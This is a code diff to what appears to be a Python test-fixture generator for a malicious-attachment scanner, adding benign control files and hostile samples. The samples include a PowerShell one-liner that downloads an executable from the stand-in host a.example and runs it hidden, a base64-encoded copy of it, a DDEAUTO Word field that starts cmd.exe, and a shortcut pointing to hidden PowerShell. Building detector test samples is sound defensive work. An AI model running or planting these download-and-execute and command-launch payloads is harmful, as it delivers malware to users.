@@ -9,6 +9,7 @@ import gzip
 import io
 import itertools
 import lzma
+import struct
 import tarfile
 import zipfile
 from collections.abc import Callable
@@ -230,9 +231,14 @@ def _qr_page(text: str) -> bytes:
     return stream.getvalue()
 
 
-def _lnk(_: str) -> bytes:
-    head = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
-    return head + b"\0" * 60 + "C:\\Windows\\System32\\powershell.exe".encode("utf-16-le")
+def _lnk(command: str) -> bytes:
+    """A shortcut (MS-SHLLINK) to `target;arguments`, both as texts behind the header."""
+    target, _, arguments = (command or "C:\\Windows\\System32\\powershell.exe;-w hidden -nop").partition(";")
+    head = struct.pack("<I", 76) + b"\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
+    head += struct.pack("<I", 0x08 | 0x20 | 0x80)  # relative path, arguments, Unicode
+    return head.ljust(76, b"\0") + b"".join(
+        struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (target, arguments)
+    )
 
 
 SMUGGLER = (
@@ -246,6 +252,13 @@ REMOTE_TEMPLATE = (
     'Target="http://templates.example/a.dotm" TargetMode="External"/></Relationships>'
 )
 
+DDE = "<w:document><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc.exe&quot;</w:instrText></w:document>"
+FEED = '<w:document><w:instrText> DDEAUTO Ticker Stocks "ACME" </w:instrText></w:document>'
+DEPLOY = b"$files = Get-ChildItem *.csv\r\nforeach ($file in $files) { Import-Csv $file | Format-Table }\r\n"
+FETCHER = (
+    b"$c = New-Object Net.WebClient; $c.DownloadFile('http://a.example/b.exe', 'b.exe'); Start-Process b.exe -w hidden"
+)
+
 FILES: dict[str, Callable[[str], bytes]] = {
     "text": lambda text: text.encode(),
     "eicar": lambda _: EICAR.encode(),
@@ -256,6 +269,17 @@ FILES: dict[str, Callable[[str], bytes]] = {
     ),
     "lnk": _lnk,
     "gif-script": lambda _: b"GIF89a" + b"\0" * 40 + b"<script>new ActiveXObject('WScript.Shell')</script>",
+    "dde": lambda _: _docx([("word/document.xml", DDE.encode())]),
+    "feed": lambda _: _docx([("word/document.xml", FEED.encode())]),
+    "deploy": lambda _: DEPLOY,
+    "fetcher": lambda _: FETCHER,
+    "encoded": lambda _: b"powershell -enc " + base64.b64encode(FETCHER.decode().encode("utf-16-le")),
+    "equation": lambda _: archive_writers.rtf([("", b"\x1c" * 200)], b"Equation.3"),
+    "letter": lambda _: b"{\\rtf1\\ansi Dear Tom, the minutes are below.}",
+    "drawing": lambda _: b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='9'/></svg>",
+    "acting-drawing": lambda _: (
+        b"<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://a.example'</script></svg>"
+    ),
     "onenote": lambda _: b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + b"\0" * 100,
     "hta": lambda _: b"<html><hta:application id=x><script language=vbscript></script></html>",
     "png": lambda _: _qr("no link here, only words"),
